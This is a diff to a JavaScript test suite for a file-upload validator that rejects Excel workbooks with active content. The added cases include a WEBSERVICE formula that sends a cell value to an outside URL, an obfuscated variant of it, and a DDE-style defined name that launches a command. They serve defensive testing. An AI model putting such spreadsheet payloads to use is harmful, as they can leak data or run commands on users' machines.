@@ -106,8 +106,16 @@ describe('what is refused', () => {
     ['a query of outside data', anXlsx('query', { 'xl/connections.xml': '<connections/>' })],
     ['an object of another program', anXlsx('object', { 'xl/embeddings/oleObject1.bin': 'x' })],
     ['a picture that is fetched from elsewhere', anXlsx('picture', { 'xl/drawings/_rels/drawing1.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://example.org/a.png" TargetMode="External"/></Relationships>' })],
+    ['a formula that fetches a page', anXlsx('fetch', { 'xl/worksheets/sheet7.xml': '<worksheet><sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("https://example.org/?"&amp;B1)</f></c></row></sheetData></worksheet>' })],
+    ['the same, spelled in numbers', anXlsx('spelled', { 'xl/worksheets/sheet7.xml': '<worksheet><x:f>&#87;EB<!-- -->SERVICE (A1)</x:f></worksheet>' })],
+    ['a name that asks another program', anXlsx('name', { 'xl/names.xml': `<definedName name="a">cmd|'/c calc'!A0</definedName>` })],
   ])('an Excel file with %s', async (_what, body) => {
     expect(await refusedWith(body)).toBe('files.document_active');
+  });
+
+  it('and a workbook whose formulas only count comes in, whatever its texts say', async () => {
+    const sheet = '<worksheet><c t="inlineStr"><is><t>WEBSERVICE( | )</t></is></c><c><f>SUM(B1:B9)+\'a|b\'!C1&amp;"IMAGE(x)|"</f></c><c><f>HYPERLINK("https://example.org")</f></c><formula1>DAYS(A1,B1)</formula1></worksheet>';
+    expect((await upload(anXlsx('counts', { 'xl/worksheets/sheet7.xml': sheet }), 'counts.xlsx')).name).toBe('counts.xlsx');
   });
 
   it('and one with a link to press comes in', async () => {
